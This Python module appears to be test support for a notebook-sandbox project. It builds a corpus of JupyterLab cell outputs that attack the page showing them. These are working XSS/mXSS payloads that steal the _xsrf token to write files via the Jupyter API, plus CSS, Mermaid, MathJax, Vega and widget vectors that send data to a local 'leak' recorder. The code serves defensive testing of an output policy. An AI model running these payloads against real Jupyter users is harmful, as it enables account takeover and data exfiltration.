"""Cells whose outputs try to act with the rights of the JupyterLab page that shows them, and
ordinary cells whose outputs a person must still see. Used by ``tests/test_browser.py``.

Two kinds of evidence, each from a cell of sandboxed code that only displays things:

- **file** (script) attacks run :func:`payload` in the page: it reads the ``_xsrf`` cookie and
  writes ``pwned-TAG-NAME.txt`` into the Jupyter server's root through ``PUT /api/contents/...``
  (the Jupyter server REST API, as measured in ENVIRONMENT.md). Evidence: the file exists.
- **request** (exfiltration) attacks make the browser load ``ORIGIN/leak/TAG/NAME`` from a server
  the test runs on 127.0.0.1 (a sandbox without network sending data out through the user's
  browser). Evidence: the request arrives.

``TAG`` names the notebook (e.g. ``kernel-trust``), so each notebook's evidence is its own.

Every attack in :data:`CORPUS` fires zero-click under ``trust`` in JupyterLab 4.6.6 + Chromium
(the control notebooks prove it on every run). They are grouped by the class of hole in issue 16
(``Attack.group``): ``raw-input`` (what a policy passing its input along lets through: unknown
elements with handlers that fire on layout, spaced attributes, CSS escapes and strings),
``style-breakout`` (``</style>`` written by a CSS re-serializer), ``mermaid``, ``maths``
(MathJax's ``\\style``), ``vega`` and ``metadata`` (vega-embed's URL forms, ``usermeta`` and
``embed_options``), ``widget`` (state the browser moves between models), ``research`` (public
XSS/mXSS classes: ``noscript``/``noembed`` parser differentials, namespace confusion, SMIL,
legacy fetching attributes), ``paths`` (an ``execute_result``, a display update), ``frame``
(a framed script navigating its frame) and ``basic``.
Attacks that need a person's click are :data:`CLICK_REQUIRED` (the browser test checks that
what they need is not offered); candidates that did not fire even under ``trust`` are listed
in :data:`NOT_IN_CORPUS` with the reason, so nobody adds them back believing they are live.

SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output (and a
Mermaid diagram, once drawn) as an ``<img src="data:...">``, where neither scripts nor external
loads run even when trusted (seen here). ``<svg onload>`` inserted into the page did not fire
under ``trust``; ``<svg><script>``, ``<image onerror>`` and SMIL ``onbegin`` did.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass

IMPORTS = "from IPython.display import HTML, Javascript, Latex, Markdown, display\n"


def payload(tag: str, name: str) -> str:
    """JavaScript (single quotes only, so it fits in a double-quoted HTML attribute) that
    creates ``pwned-TAG-NAME.txt`` in the server root when it runs with the page's rights."""
    return ("(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/pwned-{tag}-{name}.txt',{{method:'PUT',"
            "headers:{'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'},"
            "body:JSON.stringify({type:'file',format:'text',content:'x'})})})()")


def bare(js: str) -> str:
    """``data-p=BASE64 onerror=eval(atob(this.dataset.p))``: attributes that run ``js`` with no
    quote or space in their values, for markup where a quote would end the context (an
    attribute value in an mXSS payload, a CSS string). Use as ``<img src=x {bare(js)}>``."""
    return f"data-p={base64.b64encode(js.encode()).decode()} onerror=eval(atob(this.dataset.p))"


def show(kind: str, value: str) -> str:
    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Latex, Javascript)."""
    return IMPORTS + f"display({kind}({value!r}))"


def raw(data: dict, metadata: dict | None = None) -> str:
    """The cell source that displays MIME bundle ``data`` (with ``metadata``) as it is."""
    return IMPORTS + f"display({data!r}, raw=True, metadata={metadata or {}!r})"


@dataclass(frozen=True)
class Attack:
    """One cell of the corpus.

    ``build(js, url)`` writes the cell source from ``js`` (the page script for this cell, see
    :func:`payload`) and ``url`` (the recorder URL for this cell); ``evidence`` says which one
    counts. ``widget``: needs comms (the kernel forwards them; the magic does not).
    ``isolate_documented``: under ``isolate`` it is a framed script sending data out by
    navigating its own frame, which docs/security.md states that ``isolate`` does not stop.
    """

    name: str
    group: str
    evidence: str  # "file" | "request"
    build: Callable[[str, str], str]
    widget: bool = False
    isolate_documented: bool = False


BOX = "width:40px;height:20px;border:1px solid gray"
VL = "https://vega.github.io/schema/vega-lite/v5.json"
VEGA = "https://vega.github.io/schema/vega/v5.json"


def _breakout(js: str) -> tuple[str, str]:
    """A CSS string that a CSS re-serializer writing strings unescaped turns into
    ``</style><img src=x onerror=JS>``; for the ``trust`` control the cell also shows that
    decoded form (the escaped form alone is harmless unless a policy decodes it)."""
    escaped = f'<style>.sk-q{{font-family:"\\3c /style\\3e \\3c img src=x {bare(js)}\\3e "}}</style>'
    decoded = f'<style>.sk-q{{font-family:"</style><img src=x onerror="{js}">"}}</style>'
    return escaped, decoded


def onerror(js: str) -> str:
    """``<img src="x" onerror="JS">``."""
    return f'<img src="x" onerror="{js}">'


def visible(js: str) -> str:
    """An unknown element whose handler runs when it is laid out, with no click: Chromium fires
    ``contentvisibilityautostatechange`` on an element styled ``content-visibility:auto``."""
    return f'<sk-x oncontentvisibilityautostatechange="{js}" style="display:block;content-visibility:auto">x</sk-x>'


def mermaid(text: str) -> dict:
    return {"text/vnd.mermaid": text, "text/plain": "a diagram"}


def _vl_image(url: str) -> dict:
    return {"$schema": VL, "data": {"values": [{"u": url, "x": 1}]}, "mark": {"type": "image", "width": 8, "height": 8},
            "encoding": {"x": {"field": "x", "type": "quantitative"}, "url": {"field": "u", "type": "nominal"}}}


def vl_bar() -> dict:
    return {"$schema": VL, "data": {"values": [{"a": "A", "b": 3}, {"a": "B", "b": 5}]}, "mark": "bar",
            "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}}


VEGA_LITE = "application/vnd.vegalite.v5+json"
VEGA_MIME = "application/vnd.vega.v5+json"

_A: list[Attack] = []


def attack(name: str, group: str, evidence: str, **kw):
    def register(build: Callable[[str, str], str]) -> Callable[[str, str], str]:
        _A.append(Attack(name, group, evidence, build, **kw))
        return build
    return register


# -- the first corpus (before issue 16) ---------------------------------------------------
attack("javascript", "basic", "file")(lambda js, url: show("Javascript", js))
attack("script-tag", "basic", "file")(lambda js, url: show("HTML", f"<p>chart</p><script>{js}</script>"))
attack("img-onerror", "basic", "file")(lambda js, url: show("HTML", f'<img src="x" onerror="{js}">'))
attack("svg-script", "basic", "file")(lambda js, url: show(
    "HTML", f'<svg width="20" height="20"><script>{js}</script><circle cx="10" cy="10" r="8"/></svg>'))
attack("svg-image-onerror", "basic", "file")(lambda js, url: show(
    "HTML", f'<svg width="20" height="20"><image href="x" onerror="{js}"/></svg>'))
attack("markdown-img", "basic", "file")(lambda js, url: show("Markdown", f'# Report\n\n<img src="x" onerror="{js}">'))
attack("widget-html", "basic", "file", widget=True)(
    lambda js, url: f"import ipywidgets\nipywidgets.HTML(value={onerror(js)!r})")
attack("img-src", "basic", "request")(lambda js, url: show("HTML", f'<img src="{url}" width="8" height="8">'))
attack("img-srcset", "basic", "request")(lambda js, url: show("HTML", f'<img srcset="{url} 1x" width="8" height="8">'))
attack("markdown-image", "basic", "request")(lambda js, url: show("Markdown", f"A chart: ![chart]({url})"))
attack("css-style-attribute", "basic", "request")(lambda js, url: show(
    "HTML", f'<div style="{BOX};background:url({url})">bg</div>'))
attack("css-style-block", "basic", "request")(lambda js, url: show(
    "HTML", f'<style>.sk-leak-1{{background-image:url({url})}}</style><div class="sk-leak-1" style="{BOX}">bg</div>'))

# -- 1. raw input passed along when "nothing changed" ------------------------------------
attack("raw-contentvisibility", "raw-input", "file")(lambda js, url: show("HTML", visible(js)))
attack("raw-contentvisibility-markdown", "raw-input", "file")(
    lambda js, url: show("Markdown", f"Text\n\n{visible(js)}\n"))
attack("raw-animation-unknown-tag", "raw-input", "file")(lambda js, url: show(
    "HTML", f'<style>@keyframes sk-k{{from{{opacity:.5}}to{{opacity:1}}}}</style>'
            f'<sk-y onanimationstart="{js}" style="display:block;animation:sk-k 1s">y</sk-y>'))
attack("raw-img-spaced-src", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<img src = "{url}" width="8" height="8">'))
attack("raw-css-escape-attribute", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<div style="{BOX};background:\\75 rl({url})">bg</div>'))
attack("raw-css-escape-block", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<style>.sk-leak-2{{background-image:u\\72 l({url})}}</style>'
            f'<div class="sk-leak-2" style="{BOX}">bg</div>'))
attack("css-image-set-string", "raw-input", "request")(lambda js, url: show(
    "HTML", f"<div style=\"{BOX};background-image:image-set('{url}' 1x)\">bg</div>"))
attack("css-escaped-image-set", "raw-input", "request")(lambda js, url: show(
    "HTML", f"<div style=\"{BOX};background-image:\\69 mage-set('{url}' 1x)\">bg</div>"))
attack("css-import-string", "raw-input", "request")(lambda js, url: show(
    "HTML", f"<style>@import '{url}';</style><p>styled</p>"))
attack("css-font-face", "raw-input", "request")(lambda js, url: show(
    "HTML", f"<style>@font-face{{font-family:skf;src:url({url})}}</style><span style=\"font-family:skf\">f</span>"))
attack("css-custom-property", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<div style="--sk-u:url({url});{BOX};background-image:var(--sk-u)">bg</div>'))

# -- 2. </style> written by a CSS re-serializer ------------------------------------------
for _name, _kind in (("style-breakout-html", "HTML"), ("style-breakout-markdown", "Markdown")):
    attack(_name, "style-breakout", "file")(
        lambda js, url, kind=_kind: IMPORTS + "\n".join(f"display({kind}({part!r}))" for part in _breakout(js)))

# -- 3. Mermaid (text/vnd.mermaid and ```mermaid fences) ---------------------------------
attack("mermaid-img-shape", "mermaid", "request")(lambda js, url: raw(mermaid(
    f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
attack("mermaid-label-img", "mermaid", "request")(lambda js, url: raw(mermaid(
    f"flowchart LR\n  A[\"<img src='{url}' width='8'> a\"] --> B\n")))
attack("mermaid-init-themecss", "mermaid", "request")(lambda js, url: raw(mermaid(
    '%%{init: {"themeCSS": "* { background-image: url(' + url + ') }"}}%%\nflowchart LR\n  C --> D\n')))
attack("mermaid-frontmatter-themecss", "mermaid", "request")(lambda js, url: raw(mermaid(
    f'---\nconfig:\n  themeCSS: "* {{ background-image: url({url}) }}"\n---\nflowchart LR\n  E --> F\n')))
attack("mermaid-markdown-fence", "mermaid", "request")(lambda js, url: show(
    "Markdown", f'A diagram:\n\n```mermaid\nflowchart LR\n  G@{{ img: "{url}", label: "g", pos: "t", w: 30, h: 30, '
                'constraint: "off" }\n  G --> H\n```\n'))

# -- 4. Maths (MathJax 3 with its safe extension) ----------------------------------------
def _cursor(url: str) -> str:
    return f"\\style{{cursor:url({url}),auto}}{{X}}"


attack("latex-style-url", "maths", "request")(lambda js, url: raw({"text/latex": f"$${_cursor(url)}$$",
                                                                    "text/plain": "X"}))
attack("markdown-math-style-url", "maths", "request")(lambda js, url: show("Markdown", f"Maths: ${_cursor(url)}$"))
attack("html-math-style-url", "maths", "request")(lambda js, url: show("HTML", f"<p>Maths: ${_cursor(url)}$</p>"))
attack("html-math-in-code-process-class", "maths", "request")(lambda js, url: show(
    # MathJax skips <code> and <pre>, unless their class matches processHtmlClass
    "HTML", f'<code class="mathjax_process">${_cursor(url)}$</code>'))
attack("markdown-math-in-code-process-class", "maths", "request")(lambda js, url: show(
    "Markdown", f'Maths: <code class="mathjax_process">${_cursor(url)}$</code>'))
attack("widget-htmlmath-in-code-process-class", "maths", "request", widget=True)(
    lambda js, url: f"import ipywidgets\nipywidgets.HTMLMath(value={f'<code class={chr(34)}mathjax_process{chr(34)}>${_cursor(url)}$</code>'!r})")
attack("widget-htmlmath-style-url", "maths", "request", widget=True)(
    lambda js, url: f"import ipywidgets\nipywidgets.HTMLMath(value={f'Maths: ${_cursor(url)}$'!r})")
attack("widget-label-style-url", "maths", "request", widget=True)(
    lambda js, url: f"import ipywidgets\nipywidgets.Label(value={f'${_cursor(url)}$'!r})")

# -- 5. Vega and Vega-Lite (vega-embed 6.21) ---------------------------------------------
# First among the charts of its page: vega-embed writes its <style> once per page. (In
# magic-sanitize, the isolate copy follows the sanitize one: kernel-isolate judges it under isolate.)
attack("vega-metadata-default-style", "vega", "request")(lambda js, url: raw(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"},
    {VEGA_LITE: {"embed_options": {"defaultStyle": f".vega-embed{{background-image:url({url})}}"}}}))
attack("vega-url-signal", "vega", "request")(lambda js, url: raw({VEGA_MIME: {
    "$schema": VEGA, "width": 20, "height": 20,
    "data": [{"name": "t", "url": {"signal": f"'{url}'"}, "format": {"type": "json"}}],
    "marks": [{"type": "rect", "from": {"data": "t"}}]}, "text/plain": "chart"}))
attack("vega-image-url-value", "vega", "request")(lambda js, url: raw({VEGA_MIME: {
    "$schema": VEGA, "width": 20, "height": 20,
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": url}, "width": {"value": 8},
                                                     "height": {"value": 8}}}}]}, "text/plain": "chart"}))
attack("vegalite-image-url-field", "vega", "request")(lambda js, url: raw({VEGA_LITE: _vl_image(url),
                                                                           "text/plain": "chart"}))
attack("vegalite-v4-image-url-field", "vega", "request")(lambda js, url: raw(
    {"application/vnd.vegalite.v4+json": {**_vl_image(url), "$schema": VL.replace("v5", "v4")}, "text/plain": "chart"}))
attack("vega-spec-is-a-url", "vega", "request")(lambda js, url: raw(
    {VEGA_LITE: url, "text/plain": "chart"}))  # vega-embed loads a string spec as a URL
attack("vegalite-usermeta-config", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
    **vl_bar(), "usermeta": {"embedOptions": {"config": url}}}, "text/plain": "chart"}))
attack("vegalite-usermeta-patch", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
    **vl_bar(), "usermeta": {"embedOptions": {"patch": url}}}, "text/plain": "chart"}))
attack("vega-metadata-config-url", "metadata", "request")(lambda js, url: raw(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
attack("vega-metadata-patch-url", "metadata", "request")(lambda js, url: raw(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"patch": url}}}))

# -- 7. Widget state moved around by the browser -----------------------------------------
attack("widget-jsdlink-text-to-html", "widget", "file", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    f"source = ipywidgets.Text(value={onerror(js)!r})\n"
    "target = ipywidgets.HTML(value='linked')\n"
    "link = ipywidgets.jsdlink((source, 'value'), (target, 'value'))\n"
    "target"))
attack("widget-jsdlink-allow-html", "widget", "request", widget=True)(lambda js, url: (
    # ipywidgets 8.1 passes an HTML description through the manager's inline_sanitize (no
    # handlers survive, even under trust), but an image from another origin does
    "import ipywidgets\n"
    f"slider = ipywidgets.IntSlider(description={f'<img src={chr(34)}{url}{chr(34)} width=8>'!r})\n"
    "switch = ipywidgets.Checkbox(value=True)\n"
    "link = ipywidgets.jsdlink((switch, 'value'), (slider, 'description_allow_html'))\n"
    "slider"))
attack("widget-jsdlink-image-format", "widget", "request", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    f"image = ipywidgets.Image(value={url.encode()!r}, format='png', width=8, height=8)\n"
    "word = ipywidgets.Text(value='url')\n"
    "link = ipywidgets.jsdlink((word, 'value'), (image, 'format'))\n"
    "image"))
attack("widget-image-format-url", "widget", "request", widget=True)(lambda js, url: (
    f"import ipywidgets\nipywidgets.Image(value={url.encode()!r}, format='url', width=8, height=8)"))
attack("widget-video-format-url", "widget", "request", widget=True)(lambda js, url: (
    f"import ipywidgets\nipywidgets.Video(value={url.encode()!r}, format='url', autoplay=False, width=8)"))
attack("widget-audio-format-url", "widget", "request", widget=True)(lambda js, url: (
    f"import ipywidgets\nipywidgets.Audio(value={url.encode()!r}, format='url', autoplay=False)"))
attack("widget-html-list-value", "widget", "file", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    "html = ipywidgets.HTML(value='list')\n"
    "display(html)\n"
    f"html._send({{'method': 'update', 'state': {{'value': [{onerror(js)!r}]}}, 'buffer_paths': []}})"))
attack("widget-style-css-escape", "widget", "request", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    f"ipywidgets.HTML(value='bg', style={{'background': {f'{chr(92)}75 rl({url})'!r}}})"))
attack("widget-description-maths", "maths", "request", widget=True)(lambda js, url: (
    # a description is text, but the view typesets its maths (no description_allow_html needed)
    f"import ipywidgets\nipywidgets.IntSlider(description={f'${_cursor(url)}$'!r})"))
attack("widget-html-raw-contentvisibility", "widget", "file", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    f"ipywidgets.HTML(value={visible(js)!r})"))
attack("widget-html-style-breakout", "widget", "file", widget=True)(lambda js, url: (
    "import ipywidgets\n" + "\n".join(f"display(ipywidgets.HTML(value={part!r}))" for part in _breakout(js))))
attack("widget-output-raw-contentvisibility", "widget", "file", widget=True)(lambda js, url: (
    IMPORTS + "import ipywidgets\nout = ipywidgets.Output()\ndisplay(out)\n"
    f"out.append_display_data(HTML({visible(js)!r}))"))

def _output_widget(bundle: dict, metadata: dict | None = None) -> str:
    """A cell that puts ``bundle`` into an ``Output`` widget's ``outputs`` state (rendered by the
    page's rendermime, not by the display path)."""
    output = {"output_type": "display_data", "data": bundle, "metadata": metadata or {}}
    return f"import ipywidgets\nout = ipywidgets.Output()\nout.outputs = ({output!r},)\nout"


attack("widget-output-mermaid-img", "widget", "request", widget=True)(lambda js, url: _output_widget(mermaid(
    f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
attack("widget-output-vega-url", "widget", "request", widget=True)(lambda js, url: _output_widget(
    {VEGA_LITE: _vl_image(url), "text/plain": "chart"}))
attack("widget-output-vega-metadata", "widget", "request", widget=True)(lambda js, url: _output_widget(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
attack("widget-output-latex-style", "widget", "request", widget=True)(lambda js, url: _output_widget(
    {"text/latex": f"$${_cursor(url)}$$", "text/plain": "X"}))
attack("widget-output-math-process-class", "maths", "request", widget=True)(lambda js, url: _output_widget(
    {"text/html": f'<code class="mathjax_process">${_cursor(url)}$</code>', "text/plain": "X"}))
attack("widget-jslink-text-to-html", "widget", "file", widget=True)(lambda js, url: (
    "import ipywidgets\n"
    f"source = ipywidgets.Text(value={onerror(js)!r})\n"
    "target = ipywidgets.HTML(value='linked')\n"
    "link = ipywidgets.jslink((source, 'value'), (target, 'value'))\n"
    "target"))

# -- public XSS / mXSS research: parser differentials, namespaces, SMIL, legacy fetches ----
attack("mxss-noscript-attribute", "research", "file")(lambda js, url: show(
    "HTML", f'<noscript><p title="</noscript><img src=x {bare(js)}>"></p></noscript>'))
attack("mxss-math-style-img", "research", "file")(lambda js, url: show(
    "HTML", f'<math><style><img src=x onerror="{js}"></style></math>'))
attack("mxss-svg-style-img", "research", "file")(lambda js, url: show(
    "HTML", f'<svg><style><img src=x onerror="{js}"></style></svg>'))
attack("mxss-noembed-attribute", "research", "file")(lambda js, url: show(
    "HTML", f'<noembed><p title="</noembed><img src=x {bare(js)}>"></p></noembed>'))
attack("svg-animate-onbegin", "research", "file")(lambda js, url: show(
    "HTML", f'<svg width="8" height="8"><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>'))
attack("svg-set-image-href", "research", "request")(lambda js, url: show(
    "HTML", f'<svg width="8" height="8"><image width="8" height="8" href="data:,">'
            f'<set attributeName="href" to="{url}"/></image></svg>'))
attack("details-ontoggle", "research", "file")(lambda js, url: show(
    "HTML", f'<details open ontoggle="{js}"><summary>more</summary>x</details>'))
attack("iframe-srcdoc", "research", "file")(lambda js, url: show(
    "HTML", f'<iframe srcdoc="<img src=x {bare(js)}>" width="20" height="20"></iframe>'))
attack("input-image", "research", "request")(lambda js, url: show("HTML", f'<input type="image" src="{url}">'))
attack("video-poster", "research", "request")(lambda js, url: show(
    "HTML", f'<video poster="{url}" width="8" height="8"></video>'))
attack("table-background", "research", "request")(lambda js, url: show(
    "HTML", f'<table background="{url}"><tr><td>cell</td></tr></table>'))
attack("link-stylesheet", "research", "request")(lambda js, url: show(
    "HTML", f'<link rel="stylesheet" href="{url}"><p>styled</p>'))
attack("object-data", "research", "request")(lambda js, url: show(
    "HTML", f'<object data="{url}" type="image/png" width="8" height="8"></object>'))
attack("markdown-reference-image", "research", "request")(lambda js, url: show(
    "Markdown", f"A chart: ![chart][c]\n\n[c]: {url}\n"))
attack("markdown-details-ontoggle", "research", "file")(lambda js, url: show(
    "Markdown", f'Text\n\n<details open ontoggle="{js}"><summary>more</summary>x</details>\n'))

attack("svg-foreignobject-img", "research", "file")(lambda js, url: show(
    "HTML", f'<svg width="8" height="8"><foreignObject width="8" height="8">{onerror(js)}</foreignObject></svg>'))
attack("video-source-onerror", "research", "file")(lambda js, url: show(
    "HTML", f'<video width="8" height="8"><source src="x" onerror="{js}"></video>'))
attack("style-onload", "raw-input", "file")(lambda js, url: show("HTML", f'<style onload="{js}">.sk-z{{color:red}}</style>'))
attack("picture-source-srcset", "research", "request")(lambda js, url: show(
    "HTML", f'<picture><source srcset="{url}"><img width="8" height="8"></picture>'))
attack("svg-feimage", "research", "request")(lambda js, url: show(
    "HTML", f'<svg width="8" height="8"><filter id="sk-f"><feImage href="{url}"/></filter>'
            '<rect width="8" height="8" filter="url(#sk-f)"/></svg>'))
attack("link-prefetch", "research", "request")(lambda js, url: show("HTML", f'<link rel="prefetch" href="{url}">'))
attack("embed-src", "research", "request")(lambda js, url: show(
    "HTML", f'<embed src="{url}" type="image/png" width="8" height="8">'))
attack("iframe-src", "research", "request")(lambda js, url: show("HTML", f'<iframe src="{url}" width="8" height="8">'))
attack("svg-style-import", "research", "request")(lambda js, url: show(
    "HTML", f"<svg width=\"8\" height=\"8\"><style>@import url({url});</style></svg>"))
attack("css-cursor-url", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<div style="{BOX};cursor:url({url}),auto">c</div>'))
attack("css-content-url", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<style>.sk-leak-3::before{{content:url({url})}}</style><p class="sk-leak-3">c</p>'))
attack("css-border-image", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<div style="{BOX};border:4px solid;border-image:url({url}) 1">b</div>'))
attack("img-srcset-spaced", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<img srcset = "{url} 1x" width="8" height="8">'))

# -- other ways an output reaches the page: execute_result, display updates -----------------
attack("execute-result-html", "paths", "file")(lambda js, url: IMPORTS + f"HTML({visible(js)!r})")
attack("display-update-html", "paths", "file")(lambda js, url: (
    IMPORTS + f"handle = display(HTML('<p>first</p>'), display_id=True)\nhandle.update(HTML({visible(js)!r}))"))

# -- 6. a framed script sending data out by navigating its frame --------------------------
attack("frame-navigates-itself", "frame", "request", isolate_documented=True)(lambda js, url: show(
    "HTML", f"<p>moving</p><script>if (window.top !== window) location.href = '{url}'; "
            f"else new Image().src = '{url}';</script>"))


CORPUS: tuple[Attack, ...] = tuple(_A)
_A.clear()

# -- click-required: recorded, fired under trust by hand, not run in CI --------------------
attack("vega-view-source-spec-html", "vega", "file")(lambda js, url: raw(
    {VEGA_LITE: {**vl_bar(), "description": f"</code><img src=x {bare(js)}>"}, "text/plain": "chart"}))
attack("vega-view-source-footer", "vega", "file")(lambda js, url: raw(
    {VEGA_LITE: vl_bar(), "text/plain": "chart"},
    {VEGA_LITE: {"embed_options": {"sourceFooter": f"<script>{js}</script>"}}}))
attack("vega-usermeta-actions-view-source", "vega", "file")(lambda js, url: raw(
    # usermeta.embedOptions wins over the output metadata in vega-embed's merge
    {VEGA_LITE: {**vl_bar(), "description": f"</code><img src=x {bare(js)}>",
                 "usermeta": {"embedOptions": {"actions": True}}}, "text/plain": "chart"},
    {VEGA_LITE: {"embed_options": {"actions": False}}}))
attack("fixed-overlay-link", "raw-input", "request")(lambda js, url: show(
    # a corner of the page here, so that it does not catch the other tests' clicks; inset:0 covers it all
    "HTML", f'<a href="{url}" style="position:fixed;right:0;bottom:0;width:24px;height:24px;z-index:100000;'
            'opacity:0.01">click here</a>'))
attack("command-linker-terminal", "raw-input", "file")(lambda js, url: show(
    # JupyterLab's CommandLinker runs the command an element names when it is clicked
    "HTML", '<a href="#" data-commandlinker-command="terminal:create-new">open the report</a>'))
attack("link-target-top", "raw-input", "request")(lambda js, url: show(
    "HTML", f'<a href="{url}" target="_top">a link that replaces the Lab page</a>'))
CLICK_REQUIRED: tuple[Attack, ...] = tuple(_A)
"""Attacks that need a person to act: the vega-embed actions menu ("..."), then "View Source"
(vega-embed writes the spec and ``sourceHeader``/``sourceFooter`` unescaped into a same-origin
popup, where their script runs with the page's rights); a ``target="_top"`` link replaces the
Lab page; an invisible ``position:fixed`` link over the whole page turns the next click anywhere
into a request to another origin; JupyterLab's CommandLinker runs the command a
``data-commandlinker-command`` names (a terminal on the host) when the element is clicked. Fired under ``trust`` by hand
(2026-11-24); the policy must still remove them (no actions menu, no ``target``)."""
"""Every attack, in notebook order."""

NOT_IN_CORPUS = {
    "mxss-math-mtext-table": "<math><mtext><table><mglyph><style><img onerror> mutates only on a second parse "
                             "(a sanitizer's round trip); one innerHTML under trust leaves the img as text",
    "widget-description-onerror": "ipywidgets 8.1 passes an HTML description through the widget manager's "
                                  "inline_sanitize: handlers never survive, even under trust (images do: in the "
                                  "corpus)",
    "widget-togglebuttons-label": "ToggleButtonsView writes option labels with innerHTML, but escapes them first",
    "latex-fcolorbox-css": "\\fcolorbox{red}{red;cursor:url(OTHER)}{X} (the policy checks only the first colour) and "
                           "\\colorbox/\\hspace with CSS after a ';': MathJax 3.2 sets them as single style "
                           "properties, nothing fetched under trust",
    "svg-use-external": "<svg><use href=OTHER#a>: Chromium refuses a cross-origin <use> before any request",
    "html-math-in-pre-tex2jax-class": "<pre class=tex2jax_process>: MathJax 3 as JupyterLab configures it only "
                                      "knows mathjax_process (in the corpus)",
    "pager-payload-html": "page.page({'text/html': ...}) in the sandbox fires on a plain kernel, but neither the "
                          "sandbox kernel nor the magic forwards execute_reply pager payloads, even under trust "
                          "(so `obj?` help from the sandbox is not shown either)",
    "template-img-onerror": "<template> content is inert; declarative shadow roots are not parsed by innerHTML",
    "vega-editor-url-javascript": "embed_options.editorUrl='javascript:...' then 'Open in Vega Editor': no popup ran "
                                  "it under trust (Chromium 156); the policy removes the actions menu anyway",
    "base-href": "<base href=OTHER> in an output re-targets every relative URL of the page, the Lab's own API "
                 "calls too: it would break the trust control's page, so it is left to the unit and fuzz tiers",
    "meta-refresh": "<meta http-equiv=refresh> would navigate the trust control's page away; framed, it is the "
                    "isolate frame-navigation case (frame-navigates-itself)",
    "dom-clobbering": "<img name=cookie> etc. shadow document properties, but no JupyterLab 4.6.6 code path was "
                      "found where that turns into script or a fetch; html5lib judges ids/names in the fuzz tier",
    "vegalite-mark-cursor-url": "mark.cursor='url(OTHER), auto': not fetched without a pointer over the chart "
                                "(hover-only; the policy drops cursor anyway)",
    "vegalite-background-url": "background='url(OTHER)': Vega paints it as a colour, nothing fetched under trust",
    "webrtc": "RTCPeerConnection STUN from an isolate frame needs a UDP recorder; the lead documents it as not "
              "stopped by isolate",
}
"""``{candidate: why it is not in the corpus}``: click- or hover-only, or inert under ``trust``."""


def corpus(tag: str, origin: str, *, widgets: bool = True) -> dict[str, tuple[str, Attack]]:
    """``{attack name: (cell source, attack)}`` for notebook ``tag``; the recorder is at
    ``origin``. ``widgets``: include the attacks that need comms."""
    return {a.name: (a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret"), a)
            for a in CORPUS if widgets or not a.widget}


def inspect_reply(url: str) -> dict[str, str]:
    """Cells that make the sandbox's kernel answer every ``inspect_request`` (Shift+Tab's tooltip,
    the Contextual Help panel as the cursor moves) with HTML holding an image from ``url``, then
    a cell to inspect. JupyterLab renders an inspect reply's bundle untrusted (its sanitizer
    keeps images from any origin), so it is a way out unless the kernel polices the reply."""
    patch = ("kernel = get_ipython().kernel\n"
             "def do_inspect(code, cursor_pos, detail_level=0, omit_sections=()):\n"
             "    return {'status': 'ok', 'found': True, 'metadata': {},\n"
             f"            'data': {{'text/html': {f'<img src={chr(34)}{url}{chr(34)} width=8>'!r}, "
             "'text/plain': 'help'}}\n"
             "kernel.do_inspect = do_inspect")
    return {"inspect-patch": patch, "inspect-here": "len"}


def click_required(tag: str, origin: str) -> dict[str, str]:
    """``{name: cell source}`` of :data:`CLICK_REQUIRED` for notebook ``tag``."""
    return {a.name: a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret") for a in CLICK_REQUIRED}
